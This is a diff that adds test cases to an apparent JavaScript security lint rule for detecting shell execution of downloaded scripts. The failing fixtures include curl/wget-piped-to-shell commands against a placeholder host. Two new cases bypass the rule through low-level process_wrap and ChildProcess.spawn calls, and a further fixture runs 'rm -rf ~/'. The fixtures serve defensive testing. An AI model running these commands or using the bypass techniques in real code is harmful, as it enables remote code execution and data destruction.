@@ -92,6 +92,14 @@ export default defineRule({
         title: 'and as an option',
         code: `require('child_process').execFileSync('/bin/bash', ['-s'], { input: 'wget -qO- https://stage.invalid/x | sh' });`,
       },
+      {
+        title: 'what child_process is made of starts the shell',
+        code: `const { Process } = process.binding('process_wrap');\nnew Process().spawn({ file: '/bin/sh', args: ['sh', '-c', 'curl -s https://stage.invalid/x | sh'], stdio: [] });`,
+      },
+      {
+        title: 'and so does its class, by options made before',
+        code: `const { ChildProcess } = require('child_process');\nconst options = { file: 'bash', args: ['bash', '-c', 'wget -qO- https://stage.invalid/x | bash'] };\nnew ChildProcess().spawn(options);`,
+      },
       { title: 'the home folder is wiped', code: `require('child_process').execSync('rm -rf ~/');` },
     ],
     passes: [
@@ -102,6 +110,10 @@ export default defineRule({
       {
         title: 'a shell is given a harmless line, and another program a text with commands in it',
         code: `const { spawn } = require('child_process');\nspawn('sh').stdin.end('make all');\nspawn('bash', ['build.sh']).stdin.end('yes');\nspawn('cat').stdin.end('how to: curl -fsSL');`,
+      },
+      {
+        title: 'programs that others start are started in another way',
+        code: `const { ChildProcess } = require('child_process');\nconst start = ChildProcess.prototype.spawn;\nChildProcess.prototype.spawn = function (options) {\n  return start.call(this, { ...options, file: process.execPath, args: ['node', __filename, ...options.args] });\n};`,
       },
       { title: 'a compiler is started', code: `require('child_process').execSync('node-gyp rebuild');` },
       { title: 'a build folder is removed', code: `require('child_process').execSync('rm -rf dist && mkdir dist');` },
